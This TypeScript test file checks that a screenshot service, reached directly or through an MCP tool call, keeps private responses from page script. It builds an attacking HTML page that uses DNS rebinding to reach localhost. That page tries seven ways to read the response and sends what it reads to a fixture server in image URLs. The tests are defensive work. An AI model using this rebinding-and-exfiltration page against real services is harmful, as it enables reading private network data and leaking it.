/**
 * A private response never reaches page script (docs/SECURITY.md, "Private responses are held").
 *
 * The attack: a page asks for a name that resolves, for the browser, to a private address — here
 * `public.rebind.example.com`, which the DoH check calls public and the test browser maps to
 * 127.0.0.1 (scripts/setup-browser.mjs), on the canary's port — reads what comes back, and sends
 * it to a server of its own (the fixture, in an image URL). Every way of reading is tried: fetch,
 * `<script src>`, `@import` read back with getComputedStyle, an image's size, a synchronous XHR,
 * a worker's fetch, and a port probe (does a no-cors fetch succeed?). Each variant reports, so a
 * silent page cannot pass; no report may carry anything of the canary's.
 *
 * The request itself may reach the canary (the blind request, a documented residual): these tests
 * read the attacker's log, not the canary's.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { Capturer } from "../helpers/capture";
import { CANARY, FIXTURES, fixtureLog, mcpToolCall, runId } from "../helpers/http";
import { settle } from "../helpers/security";
import { SMALL } from "./run";

let cap: Capturer;
beforeAll(async () => {
  cap = await Capturer.create("pro");
});

const PRIVATE = `http://public.rebind.example.com:${new URL(CANARY).port}`;
const VARIANTS = ["fetch", "script", "import", "img", "xhr", "worker", "probe"] as const;

/** The attacking page: every variant reads the private origin and reports to the fixture. */
function exfilPage(run: string): string {
  const src = (path: string, k: string) => `${PRIVATE}${path}?run=${run}&v=exfil&k=${k}`;
  const report = `(k, d) => { new Image().src = ${JSON.stringify(`${FIXTURES}/exfil?run=${run}`)} + "&k=" + k + "&d=" + encodeURIComponent(String(d).slice(0, 200)); }`;
  return `<!doctype html><html><head>
<script>window.report = ${report}; window.__leak = () => report("script", "ran CANARY-CONTENT");</script>
<style>@import url(${JSON.stringify(src("/paint.css", "import"))});</style>
</head><body style="margin:0;background:#fff">
<script>
fetch(${JSON.stringify(src("/paint", "fetch"))}).then((r) => r.text()).then((t) => report("fetch", t), (e) => report("fetch", "err " + e.name));
const img = new Image();
img.onload = () => report("img", "loaded " + img.naturalWidth + " CANARY-CONTENT");
img.onerror = () => report("img", "err");
img.src = ${JSON.stringify(src("/paint.png", "img"))};
try {
  const x = new XMLHttpRequest();
  x.open("GET", ${JSON.stringify(src("/paint", "xhr"))}, false);
  x.send();
  report("xhr", x.status + " " + x.responseText);
} catch (e) { report("xhr", "err " + e.name); }
const w = new Worker(URL.createObjectURL(new Blob([
  "fetch(" + ${JSON.stringify(JSON.stringify(src("/paint", "worker")))} + ").then((r) => r.text()).then((t) => postMessage(t), (e) => postMessage('err ' + e.name));"
], { type: "text/javascript" })));
w.onmessage = (e) => report("worker", e.data);
fetch(${JSON.stringify(src("/probe", "probe"))}, { mode: "no-cors" }).then(() => report("probe", "open CANARY-CONTENT"), () => report("probe", "err"));
setTimeout(() => report("import", getComputedStyle(document.body).backgroundColor === "rgb(255, 0, 255)" ? "CANARY-CONTENT" : "clean"), 900);
</script>
<script src=${JSON.stringify(src("/paint.js", "script"))}></script>
<script>report("script", "after");</script>
</body></html>`;
}

/** What the page reported, by variant: every variant must have reported, none with the canary's. */
async function expectNothingRead(run: string, label: string): Promise<void> {
  await settle(600);
  const reports = (await fixtureLog(run)).filter((r) => r.path === "/exfil");
  const byVariant = new Map<string, string[]>();
  for (const r of reports) {
    const k = String(r.query.k);
    byVariant.set(k, [...(byVariant.get(k) ?? []), String(r.query.d)]);
  }
  expect([...byVariant.keys()].sort(), `${label}: every variant reported`).toEqual(
    [...VARIANTS].sort(),
  );
  const leaks = reports.filter((r) => String(r.query.d).includes("CANARY"));
  expect(
    leaks.map((r) => `${r.query.k}: ${r.query.d}`),
    `${label}: private content left`,
  ).toEqual([]);
}

/** A capture of the page fails closed (400, "Could not reach the target URL."), never a 5xx. */
function expectFailedClosed(status: number, text: string): void {
  expect(status, text.slice(0, 300)).toBe(400);
  expect(text).toContain("Could not reach the target URL.");
}

describe.concurrent("a private response never reaches page script", () => {
  it("as a target page: nothing read leaves, the capture fails closed", async () => {
    const run = runId();
    await fetch(`${FIXTURES}/__page`, {
      method: "POST",
      body: JSON.stringify({ run, html: exfilPage(run) }),
    });
    const { res, bytes } = await cap.post({
      ...SMALL,
      url: `${FIXTURES}/watched?run=${run}`,
      delay: 1200,
    });
    expectFailedClosed(res.status, new TextDecoder().decode(bytes));
    await expectNothingRead(run, "target page");
  });

  it("as user HTML: nothing read leaves, the capture fails closed", async () => {
    const run = runId();
    const { res, bytes } = await cap.post({ ...SMALL, html: exfilPage(run), delay: 1200 });
    expectFailedClosed(res.status, new TextDecoder().decode(bytes));
    await expectNothingRead(run, "user HTML");
  });

  it("through an MCP tool call: nothing read leaves, the tool reports an error", async () => {
    const run = runId();
    const res = await mcpToolCall(cap.auth, "screenshot", {
      html: exfilPage(run),
      width: 320,
      height: 240,
      delay: 1200,
    });
    const text = await res.text();
    expect(res.status, text.slice(0, 300)).toBe(200);
    const body = JSON.parse(text) as { result?: { isError?: boolean; content: unknown[] } };
    expect(body.result?.isError, text.slice(0, 300)).toBe(true);
    expect(text).toContain("Could not reach the target URL.");
    await expectNothingRead(run, "MCP");
  });
});
